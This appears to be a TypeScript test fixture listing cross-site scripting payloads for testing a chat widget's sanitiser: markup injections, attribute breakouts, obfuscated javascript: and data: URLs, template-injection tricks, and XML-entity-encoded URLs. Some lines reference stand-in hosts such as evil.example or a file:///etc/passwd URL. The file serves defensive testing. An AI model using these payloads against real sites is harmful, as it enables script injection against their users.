/**
 * XSS payloads: markup, attribute breakouts, dangerous URL schemes (encoded, mixed case, with
 * whitespace and control characters), template-literal tricks, CSS injection. Each one that
 * ran would set window.__xss (or parent/top.__xss).
 */

const S = 'window.__xss=1';

export const MARKUP = [
  `<script>${S}</script>`,
  `<img src=x onerror=${S}>`,
  `<svg onload=${S}>`,
  `<svg><script>${S}</script></svg>`,
  `<iframe src="javascript:${S}"></iframe>`,
  `<iframe srcdoc="<script>parent.__xss=1</script>">`,
  `<object data="javascript:${S}">`,
  `<embed src="javascript:${S}">`,
  `<body onload=${S}>`,
  `<details open ontoggle=${S}>`,
  `<video><source onerror=${S}></video>`,
  `<audio src=x onerror=${S}>`,
  `<input autofocus onfocus=${S}>`,
  `<marquee onstart=${S}>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${S}>`,
  `<noscript><p title="</noscript><img src=x onerror=${S}>">`,
  `<a href="javascript:${S}">click</a>`,
  `<a href="https://example.com" onclick="${S}">x</a>`,
  `<form action="javascript:${S}"><button>x</button></form>`,
  `<button formaction="javascript:${S}">x</button>`,
  `<link rel=import href="data:text/html,<script>${S}</script>">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${S}">`,
  `<base href="javascript:/">`,
  `<style>*{background:url("javascript:${S}")}</style>`,
  `<div style="background:url(javascript:${S})">`,
  `<div style="width: expression(${S})">`,
  `<x onmouseover=${S}>hover`,
  `<template><img src=x onerror=${S}></template>`,
  `<img src="x" onerror="&#119;indow.__xss=1">`,
  `<IMG SRC=JaVaScRiPt:${S}>`,
  `<img src=x oNeRrOr=${S}>`,
  `<scr<script>ipt>${S}</scr</script>ipt>`,
  `<<script>script>${S}<</script>/script>`,
  `<img/src=x/onerror=${S}>`,
  `<img src=x onerror\u000c=${S}>`,
  `<svg><animate onbegin=${S} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${S}"><text>x</text></a></svg>`,
  `<isindex type=image src=1 onerror=${S}>`,
  `<object type="text/x-scriptlet" data="https://evil.example/x.sct">`,
  `<slot name=x onclick=${S}>`,
  `<ethora-message onclick=${S}>`,
  `<a href="https://example.com">innocent link</a>`,
  `</ethora-message><script>${S}</script>`,
  `<img src=x onerror=${S}> 👍`,
];

export const BREAKOUTS = [
  `" onmouseover="${S}`,
  `' onmouseover='${S}`,
  `"><img src=x onerror=${S}>`,
  `'><svg onload=${S}>`,
  `\` onmouseover=${S}`,
  `"/><script>${S}</script>`,
  `--><script>${S}</script><!--`,
  `]]><script>${S}</script>`,
  `</textarea><script>${S}</script>`,
  `</title><script>${S}</script>`,
  `</style><script>${S}</script>`,
  `<!--<img src="--><img src=x onerror=${S}//">`,
  `x" style="position:fixed;inset:0;background:red`,
  `</style><style>*{display:none}</style>`,
];

export const URLS = [
  `javascript:${S}`,
  `JaVaScRiPt:${S}`,
  `javascript:${S}//https://example.com`,
  ` javascript:${S}`,
  `\tjavascript:${S}`,
  `java\nscript:${S}`,
  `java\tscript:${S}`,
  `java\u0000script:${S}`,
  `\u0001javascript:${S}`,
  `&#106;avascript:${S}`,
  `&#x6A;avascript:${S}`,
  `javascript&colon;${S}`,
  `jav&#x09;ascript:${S}`,
  `%6Aavascript:${S}`,
  `\\u006Aavascript:${S}`,
  `data:text/html,<script>${S}</script>`,
  `data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==`,
  `DATA:text/html,<script>${S}</script>`,
  `data:image/svg+xml,<svg onload=${S}>`,
  `data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9d2luZG93Ll9feHNzPTE+`,
  `vbscript:msgbox(1)`,
  `VBScript:msgbox(1)`,
  `livescript:${S}`,
  `file:///etc/passwd`,
  `blob:https://example.com/uuid`,
  `filesystem:https://example.com/temporary/x`,
  `//evil.example/x.png`,
  `https://example.com/" onerror="${S}`,
  `https://example.com/<script>${S}</script>.png`,
  `https://example.com/x.png#"><img src=x onerror=${S}>`,
  `mailto:x@example.com?body=<script>${S}</script>`,
  `\u202ehttps://evil.example/gpj.exe`,
  `ftp://evil.example/x.png`,
  `about:blank`,
  `jar:https://example.com/x.jar!/`,
  `view-source:https://example.com`,
  `javascript://%0A${S}`,
  `javascript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${S} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${S}//>\\x3e`,
  'https://example.com/ok',
];

export const TRICKS = [
  `\${${S}}`,
  `{{constructor.constructor('${S}')()}}`,
  `\`\${${S}}\``,
  `<%= ${S} %>`,
  `#{${S}}`,
  `\\u003cscript\\u003e${S}\\u003c/script\\u003e`,
  `＜script＞${S}＜/script＞`,
  `expression(${S})`,
  `red;background:url(javascript:${S})`,
  `{"__proto__":{"innerHTML":"<img src=x onerror=${S}>"}}`,
  '__proto__',
  'constructor',
  'toString',
  `\u200b<script>${S}</script>`,
  `<scr\u0000ipt>${S}</scr\u0000ipt>`,
  `%3Cscript%3E${S}%3C/script%3E`,
];

export const PAYLOADS: readonly string[] = [...MARKUP, ...BREAKOUTS, ...URLS, ...TRICKS];

/**
 * URLs written into XML without escaping their `&`, so the XML parser decodes the entity and
 * the widget receives a real `javascript:` (the layer where entity encoding bites).
 */
export const RAW_XML_URLS = [`&#106;avascript:${S}`, `&#x6A;&#x61;vascript:${S}`, `java&#9;script:${S}`, `&#x20;javascript:${S}`, `data&#58;text/html,x`];

/** Characters that XML 1.0 cannot carry: such payloads reach the view only by direct injection. */
export function xmlSafe(p: string): boolean {
  return !/[\u0000-\u0008\u000b\u000c\u000e-\u001f\ufffe\uffff]/.test(p);
}
